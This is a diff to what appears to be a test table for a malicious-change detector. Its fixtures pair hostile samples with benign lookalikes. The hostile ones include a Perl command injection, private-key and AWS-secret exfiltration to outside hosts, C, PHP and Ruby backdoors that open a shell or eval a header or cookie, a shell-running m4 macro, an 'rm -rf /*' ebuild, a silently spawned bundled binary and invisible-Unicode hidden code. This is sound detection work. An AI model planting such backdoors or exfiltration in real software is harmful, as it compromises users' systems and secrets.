@@ -276,3 +276,43 @@ row(58, True, "a model file that starts a program when it is opened", {"data/mod
 row(58, True, "a new model file that runs a text", {"data/model.bin": model(Calls(eval, "print(1)"), protocol=2)})
 row(58, False, "a model file that was trained again", {"data/model.pkl": model(1.5, {"a", "b"})}, old={"data/model.pkl": model()})
 row(58, False, "a model file that names functions as data", {"data/model.pkl": model(len, sorted, dict)}, old={"data/model.pkl": model()})
+
+# ---- what compromises really looked like ------------------------------------------------------------
+
+FORM = "#!/usr/bin/perl\nuse WebCore;\n&ReadParse();\n$in{'new1'} eq $in{'new2'} || &pass_error($text{'enew'}%s);\n"
+row(56, True, "what a form says is run in Perl", {"form.cgi": FORM % ",qx/$in{'old'}/"}, old={"form.cgi": FORM % ""})
+row(56, False, "a form's answer is checked in Perl", {"form.cgi": FORM % ",$in{'old'}"}, old={"form.cgi": FORM % ""})
+row(56, False, "a fixed command beside a form in Perl", {"form.cgi": FORM % ",qx/hostname/"}, old={"form.cgi": FORM % ""})
+
+WALK = ("function each(dir) { for (const name of require('fs').readdirSync(dir)) { const file = require('path').join(dir, name);\n"
+        "  if (require('fs').statSync(file).isDirectory()) each(file); else %s; } }\n")
+fires(45, "one text for every file from here upwards", WALK % "require('fs').writeFileSync(file, 'x')" + "each('./'); each('../../'); each('/');\n")
+innocent(45, "every file of a folder of its own", WALK % "require('fs').writeFileSync(file + '.ok', 'x')" + "each('./build'); each('../cache');\n")
+HOLDER = "class Wallet {\n  constructor(privateKey) {\n%s    this.key = privateKey;\n  }\n}\nexports.Wallet = Wallet;\n%s"
+row(4, True, "an old key goes to a host that nobody knew", {"index.js": HOLDER % ("    note(privateKey);\n",
+    "function note(e) { fetch('https://rpc.widget.example/q', { headers: { 'x-id': btoa(e) } }).catch(() => {}); }\n")}, old={"index.js": HOLDER % ("", "")})
+row(4, False, "an old key is checked", {"index.js": HOLDER % ("    note(privateKey);\n",
+    "function note(e) { if (e.length !== 64) throw new Error('bad key, see https://rpc.widget.example/q'); }\n")}, old={"index.js": HOLDER % ("", "")})
+fires(49, "the key of one service goes to another", "fetch('https://in.widget.example/' + process.env.AWS_SECRET_ACCESS_KEY);\n")
+C = "#include <stdlib.h>\nint help(const char *target)\n{\n%s  return 0;\n}\n"
+row(9, True, "a word that opens a shell in C", {"src/help.c": C % "  if (strcmp(target, \"OPENUP\") == 0) { setuid(0); system(\"/bin/sh;/sbin/sh\"); }\n"}, old={"src/help.c": C % ""})
+row(9, False, "a word that prints the help in C", {"src/help.c": C % "  if (strcmp(target, \"SITE\") == 0) { system(\"/bin/sh -n help.sh\"); }\n"}, old={"src/help.c": C % ""})
+ENGINE = "static void start(void)\n{\n%s  php_handler_start();\n}\n"
+row(56, True, "a header that is run as code in C", {"ext/out.c": ENGINE % "  zval *enc = zend_hash_str_find(server, \"HTTP_X_AGENT\", 12);\n  zend_eval_string(Z_STRVAL_P(enc) + 8, NULL, \"x\");\n"}, old={"ext/out.c": ENGINE % ""})
+row(56, False, "a header that is printed in C", {"ext/out.c": ENGINE % "  zval *enc = zend_hash_str_find(server, \"HTTP_X_AGENT\", 12);\n  php_printf(\"%s\", Z_STRVAL_P(enc));\n"}, old={"ext/out.c": ENGINE % ""})
+HOOK = "module Thing\n  Handler.tap do |r|\n    r.send(:define_method, :call) do |env|\n      %s\n      super(env)\n    end\n  end\nend\n"
+row(56, True, "a cookie that is run in a handler in Ruby", {"lib/hook.rb": HOOK % "eval(Base64.urlsafe_decode64(env['HTTP_COOKIE'].scan(/id=(.+);/).flatten[0].to_s))"}, old={"lib/hook.rb": HOOK % ""})
+row(56, False, "a cookie that is read in a handler in Ruby", {"lib/hook.rb": HOOK % "@seen = Base64.urlsafe_decode64(env['HTTP_COOKIE'].to_s)"}, old={"lib/hook.rb": HOOK % ""})
+MACRO = "AC_DEFUN([gl_PATHS],\n[\n%s  AC_SUBST([paths])\n])\n"
+row(58, True, "a macro that runs what lies in a test file", {"m4/paths.m4": MACRO % ("  found=`grep -aErls \"#{4}[[[:alnum:]]]{5}\" $srcdir/ 2>/dev/null`\n"
+    "  AC_CONFIG_COMMANDS([paths], [eval $gl_paths | $SHELL 2>/dev/null], [gl_paths=\"$found\"])\n")}, old={"m4/paths.m4": MACRO % ""})
+row(58, False, "a macro that looks for a word in the sources", {"m4/paths.m4": MACRO % "  found=`grep -l main $srcdir/*.c | sort`\n  AC_MSG_RESULT([$found])\n"}, old={"m4/paths.m4": MACRO % ""})
+row(45, True, "a recipe that removes everything", {"app/tool-1.0.ebuild": "EAPI=8\nsrc_configure() {\n\tdefault\n}\nrm -rf /*\n"}, old={"app/tool-1.0.ebuild": "EAPI=8\nsrc_configure() {\n\tdefault\n}\n"})
+row(45, False, "a recipe that removes what it made", {"app/tool-1.0.ebuild": "EAPI=8\nsrc_configure() {\n\trm -rf \"${S}\"/build\n\tdefault\n}\n"}, old={"app/tool-1.0.ebuild": "EAPI=8\nsrc_configure() {\n\tdefault\n}\n"})
+ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + bytes(24) + b"\x00\x00\x00\x00\x40\x00\x38\x00\x00\x00\x40\x00\x00\x00\x00\x00"
+STARTS = "const path = require('path');\nrequire('child_process').spawn(path.join(__dirname, 'runtime', '%s'), [], { stdio: 'ignore' });\n"
+row(37, True, "a program that came along is started", {"index.js": MAIN + STARTS % "kernelhost", "runtime/kernelhost": ELF})
+row(37, False, "a program that was there is started", {"index.js": MAIN + STARTS % "kernelhost"}, old={"runtime/kernelhost": ELF})
+UNSEEN = "".join(chr(0xFE00 + b % 16) + chr(0xE0100 + b // 16) for b in b"console.log('what nobody sees in an editor at all, ever')" * 3)
+fires(13, "a program in characters that are not shown", "exports.note = [...`%s`].length;\n" % UNSEEN)
+innocent(13, "signs that pick how an emoji looks", "exports.signs = ['\u2764\ufe0f', '\u2600\ufe0f', '\u2708\ufe0f'];\n")
